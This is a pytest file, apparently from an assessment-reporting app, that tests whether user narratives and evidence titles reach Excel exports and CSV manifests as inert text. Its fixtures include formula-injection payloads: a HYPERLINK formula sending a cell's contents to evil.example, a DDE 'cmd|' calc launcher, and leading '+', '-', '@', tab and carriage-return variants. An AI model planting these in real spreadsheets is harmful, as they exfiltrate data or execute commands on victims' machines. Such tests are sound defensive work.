"""User text leaves our spreadsheets and CSV files as text, never as a live formula."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from wbk.formats.safe_text import csv_cell
from wbk.formats.simple_docs import simple_pdf
from wbk.reports.binder import build_binder
from wbk.services import demo
from wbk.services.assessment import assessments, evidence, reports
from wbk.services.core.actor import operator
from wbk.services.core.workspace import open_workspace
from wbk.settings import Settings

OP = operator("test")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
NARRATIVES = {
    "P.MP.i.a": HYPERLINK,
    "P.MP.i.b": "@SUM(1+1)*cmd|' /C calc'!A0",
    "P.TT.i.a": "+1+1",
    "P.SDM.i.a": "-2+3",
    "R.PW.i.a": "=1+1",
}
TITLES = [HYPERLINK, "+SUM(A1:A2)", "-1+1 SK Tim", "@cmd", "=2*3"]
# the value, score and percent columns hold our own formulas; nothing else may
FORMULA_COLUMNS = {"E", "F", "G"}


@pytest.fixture(scope="module")
def hostile_ws(tmp_path_factory):
    ws = open_workspace(Settings(data_dir=tmp_path_factory.mktemp("inject") / "data"))
    aid = demo.create_demo(ws)
    stored = assessments.answers_of(ws, OP, aid)
    for code, text in NARRATIVES.items():  # demo answers kept, only the narrative changes
        assessments.set_answer(ws, OP, aid, code, stored[code].value, narrative=text)
    for n, title in enumerate(TITLES):
        pdf = simple_pdf(f"Dokumen {n}")
        evidence.add_file(ws, OP, aid, ["P.MP.i.a"], io.BytesIO(pdf), f"d{n}.pdf", title=title)
    yield ws, aid
    ws.db.dispose()


def test_hostile_narratives_are_text_cells_with_the_literal_text(hostile_ws):
    ws, aid = hostile_ws
    sheet = load_workbook(io.BytesIO(reports.excel_export(ws, OP, aid)))["LKE"]
    rows = {sheet.cell(r, 1).value: r for r in range(5, sheet.max_row + 1)}
    for code, text in NARRATIVES.items():
        cell = sheet[f"H{rows[code]}"]
        assert cell.data_type == "s", code
        assert cell.value == text
        assert cell.quotePrefix  # stays text when someone edits the cell in Excel
    titles = sheet[f"I{rows['P.MP.i.a']}"]  # "title [hash]; title [hash]; ..."
    assert titles.data_type == "s"
    assert all(t in titles.value for t in TITLES)


def test_only_our_score_formulas_are_formulas(hostile_ws):
    ws, aid = hostile_ws
    data = reports.excel_export(ws, OP, aid)
    book = load_workbook(io.BytesIO(data))
    formulas = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert sheet.title == "LKE" and cell.column_letter in FORMULA_COLUMNS, (
                        f"{sheet.title}!{cell.coordinate}: {cell.value}"
                    )
                    formulas += 1
                elif isinstance(cell.value, str) and cell.value.startswith("="):
                    assert cell.data_type == "s"
    assert formulas > 300  # the score formulas are still live (value, score, % per row)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert not re.search(r"<f>[^<]*(HYPERLINK|cmd\|)", xml)  # as Excel itself will read it


def test_binder_manifest_neutralises_formula_titles(hostile_ws):
    ws, aid = hostile_ws
    with zipfile.ZipFile(io.BytesIO(reports.evidence_binder(ws, OP, aid))) as zf:
        raw = zf.read("manifest.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    titles = [row["title"] for row in rows]
    for title in TITLES:
        assert "'" + title in titles  # a leading quote: Excel and LibreOffice show text
        assert title not in titles
    for title in titles:
        assert not title.startswith(("=", "+", "-", "@"))
    for line in raw.splitlines():
        assert line.startswith('"')  # every field quoted


def test_binder_manifest_neutralises_tab_and_carriage_return(hostile_ws):
    # the services strip titles, so these reach the writer only through other paths:
    # hand the binder report data whose titles start with a tab and a carriage return
    ws, aid = hostile_ws
    data = reports.report_data(ws, OP, aid)
    leads = ["\t=1+1", "\r=1+1"]
    changed = [
        dataclasses.replace(doc, title=leads[i % 2] if doc.title in TITLES else doc.title)
        for i, doc in enumerate(data.documents)
    ]
    data.documents = changed
    blobs = {}
    for doc in changed:
        if doc.latest is not None:
            blobs[doc.latest.sha256] = ws.blobs.path_of(doc.latest.sha256).read_bytes()
    out = build_binder(data, lambda sha: io.BytesIO(blobs[sha]), b"laporan", "laporan.docx")
    with zipfile.ZipFile(io.BytesIO(out)) as zf:
        raw = zf.read("manifest.csv").decode("utf-8-sig")
    titles = [row["title"] for row in csv.DictReader(io.StringIO(raw, newline=""))]
    assert "'\t=1+1" in titles and "'\r=1+1" in titles
    assert not any(t.startswith(("\t", "\r")) for t in titles)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("SK Tim ZI", "SK Tim ZI"),
        ("a=b", "a=b"),
        (-5, "-5"),  # a number we computed is not user text
        (None, ""),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected
